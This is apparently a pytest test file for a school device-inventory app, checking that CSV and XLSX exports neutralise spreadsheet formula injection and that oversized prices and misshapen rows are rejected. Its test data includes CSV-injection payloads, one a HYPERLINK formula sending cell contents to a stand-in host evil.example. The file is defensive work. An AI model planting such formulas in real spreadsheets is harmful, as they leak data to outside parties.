"""Formula-like text is exported as text (OWASP CSV injection) and imported back exactly; amounts too
large for any device and rows that do not fit their header are refused, naming the row."""

import csv
import sqlite3

import pytest
from openpyxl import load_workbook

from inventory_app.core.errors import RejectedInput
from inventory_app.core.tabular import read_delimited
from tests.support import dump

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klikkaa")',
    "+41 1234",
    "-2+3",
    "@SUM(A1:A3)",
    "\tsarkain",
    "'=jo lainausmerkki",
]


@pytest.fixture
def hostile(cli, city, tmp_path, store_path):
    lines = ["Koulu;Laitetyyppi;Sarjanumero;Huom"]
    for n, text in enumerate(HOSTILE[:4] + ["tab", "apostrophe"]):
        quoted = '"' + text.replace('"', '""') + '"'
        lines.append(f"KON07;Tabletti;HS-{n};{quoted}")
    path = tmp_path / "hostile.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = cli("import", str(path), "--json")
    assert result.code == 0, result.err
    # Notes typed in the app may start with a tab or with an apostrophe before "=".
    conn = sqlite3.connect(store_path)
    for n in (4, 5):
        conn.execute("update devices set notes = ? where serial = ?", (HOSTILE[n], f"HS-{n}"))
    conn.commit()
    conn.close()
    return city


def notes_by_serial(path):
    conn = sqlite3.connect(path)
    try:
        return dict(conn.execute("select serial, notes from devices where serial like 'HS-%'").fetchall())
    finally:
        conn.close()


def test_imported_text_is_kept_exactly(cli, hostile, store_path):
    notes = notes_by_serial(store_path)
    assert [notes[f"HS-{n}"] for n in range(4)] == HOSTILE[:4]


def test_xlsx_export_writes_no_formula_and_round_trips(cli, hostile, tmp_path, store_path):
    out = tmp_path / "out.xlsx"
    assert cli("export", "--out", str(out)).code == 0
    sheet = load_workbook(out)["Devices"]
    header = [c.value for c in sheet[1]]
    notes = [row[header.index("Notes")] for row in sheet.iter_rows(min_row=2)]
    hostile_cells = [c for c in notes if c.value and c.value.lstrip("'").startswith(("=", "+", "-", "@", "\t"))]
    assert len(hostile_cells) == len(HOSTILE)
    for cell in hostile_cells:
        assert cell.data_type == "s" and cell.value.startswith("'")  # text, never a formula
    before = dump(store_path)
    report = cli("import", str(out), "--json").json()
    assert (report["changed"], report["invalid"]) == (0, [])
    assert dump(store_path) == before
    fresh = tmp_path / "fresh.sqlite"
    cli("init", db=str(fresh))
    assert cli("import", str(out), db=str(fresh)).code == 0
    assert notes_by_serial(fresh) == {f"HS-{n}": text for n, text in enumerate(HOSTILE)}


def test_csv_export_neutralises_formula_cells(cli, hostile, tmp_path, store_path):
    out = tmp_path / "out.csv"
    assert cli("export", "--out", str(out)).code == 0
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    notes = [r[rows[0].index("Notes")] for r in rows[1:]]
    for text in HOSTILE:
        assert "'" + text in notes
    assert not any(n.startswith(("=", "+", "-", "@", "\t")) for n in notes)
    before = dump(store_path)
    report = cli("import", str(out), "--json").json()
    assert (report["changed"], report["invalid"]) == (0, [])
    assert dump(store_path) == before


@pytest.mark.parametrize("price", ["1e308", "12345678901234567890", "99999999999999999999,00"])
def test_a_huge_price_is_refused_naming_the_row(cli, city, tmp_path, store_path, price):
    path = tmp_path / "p.csv"
    path.write_text(
        f"Koulu;Laitetyyppi;Sarjanumero;Hinta\nKON07;Tabletti;P-1;12,50\nKON07;Tabletti;P-2;{price}\n", encoding="utf-8"
    )
    before = dump(store_path)
    result = cli("import", str(path))
    assert result.code == 3, result.err
    assert f"row 3: Hinta: '{price}' is too large for a euro amount" in result.err
    assert dump(store_path) == before


def test_rows_that_do_not_fit_the_header_are_refused(cli, city, tmp_path, store_path):
    path = tmp_path / "w.csv"
    path.write_text(
        "Koulu;Laitetyyppi;Sarjanumero;Huom\n"
        "KON07;Tabletti;W-1;ok\n"
        "KON07;Tabletti;W-2;akku vaihdettu; laturi puuttuu\n"
        "KON07;Tabletti\n"
        "KON07;Tabletti;W-4;;\n",
        encoding="utf-8",
    )
    before = dump(store_path)
    result = cli("import", str(path))
    assert result.code == 3
    assert "row 3: 5 cells but the header has 4 columns (an unquoted ';' inside a value?" in result.err
    assert "row 4: only 2 cells but the header has 4 columns" in result.err
    assert "row 5" not in result.err  # an empty cell after a trailing ';' is fine
    assert dump(store_path) == before


def test_shared_csv_reader_refuses_misfit_rows():
    with pytest.raises(RejectedInput, match=r"row 3: 4 cells but the header has 3 columns"):
        read_delimited(b"a;b;c\n1;2;3\n1;2;3;4\n", "f.csv")
    with pytest.raises(RejectedInput, match=r"row 2: only 2 cells"):
        read_delimited(b"a;b;c\n1;2\n", "f.csv")
    assert read_delimited(b"a;b;c;\n1;2;3;\n1;2;3\n", "f.csv").rows == [["1", "2", "3", ""], ["1", "2", "3"]]


def test_title_line_does_not_fool_the_delimiter():
    from inventory_app.core.tabular import sniff_delimiter

    text = "Kesämäen koulu, laiteluettelo 2026\n\nKoulu;Luokka;Laite\nK;A1;iPad\nK;A2;Tabletti, vanha\n"
    assert sniff_delimiter(text) == ";"
    assert sniff_delimiter('a,b,c\n1,2,3\n1,2,"x; y"\n') == ","
